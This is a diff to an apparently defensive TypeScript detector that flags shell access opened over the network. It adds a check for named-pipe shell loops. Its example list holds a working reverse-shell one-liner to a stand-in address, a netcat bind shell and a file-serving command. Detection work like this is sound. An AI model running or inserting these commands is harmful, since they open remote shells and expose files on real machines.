@@ -1,3 +1,5 @@
+import { textsOf } from "../base/value.ts";
+import type { ConnectEffect, Effect } from "../effects/effect.ts";
 import { hostOf } from "../effects/hosts.ts";
 import { type Detector, defineDetector } from "./define-detector.ts";
 
@@ -17,7 +19,11 @@ export const openShell: Detector<"reverse" | "bind" | "relay" | "files"> = defin
       files: "serves files to every host that can reach this machine",
     },
     examples: {
-      flagged: ["bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
+      flagged: [
+        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+        "nc -l -p 4444 -e /bin/sh",
+        "python3 -m http.server",
+      ],
       clean: ["curl http://localhost:4444", "exec 3<>/dev/tcp/127.0.0.1/80"],
     },
     references: ["CWE-553", "MITRE ATT&CK T1059.004", "MITRE ATT&CK T1571", "MITRE ATT&CK T1572"],
@@ -31,7 +37,7 @@ export const openShell: Detector<"reverse" | "bind" | "relay" | "files"> = defin
       const { at } = effect;
       if (effect.kind === "connect") {
         const socket = effect.by === "/dev/tcp" && shell;
-        if (effect.purpose === "shell" || socket)
+        if (effect.purpose === "shell" || socket || isFedByPipe(effect, effects))
           yield { messageId: "reverse", data: { host: hostOf(effect.to) }, at };
       } else if (effect.kind === "listen") {
         if (effect.offers === "shell") yield { messageId: "bind", data: {}, at };
@@ -42,3 +48,24 @@ export const openShell: Detector<"reverse" | "bind" | "relay" | "files"> = defin
     }
   },
 });
+
+/**
+ * Whether a shell that runs what comes out of a file sends its output to a host whose answer goes
+ * into that file: a conversation through a named pipe.
+ */
+function isFedByPipe(connect: ConnectEffect, effects: readonly Effect[]): boolean {
+  if (connect.sends === undefined) return false;
+  const before = effects.slice(0, effects.indexOf(connect));
+  const read = before.flatMap((one) =>
+    one.kind === "read" ? (textsOf(one.target.path) ?? []) : [],
+  );
+  return (
+    before.some((one) => one.kind === "code" && one.language === "shell" && !one.judged) &&
+    effects.some(
+      (one) =>
+        one.kind === "write" &&
+        one.content?.taint.some(({ label }) => label === "network") === true &&
+        textsOf(one.target.path)?.some((path) => read.includes(path)) === true,
+    )
+  );
+}
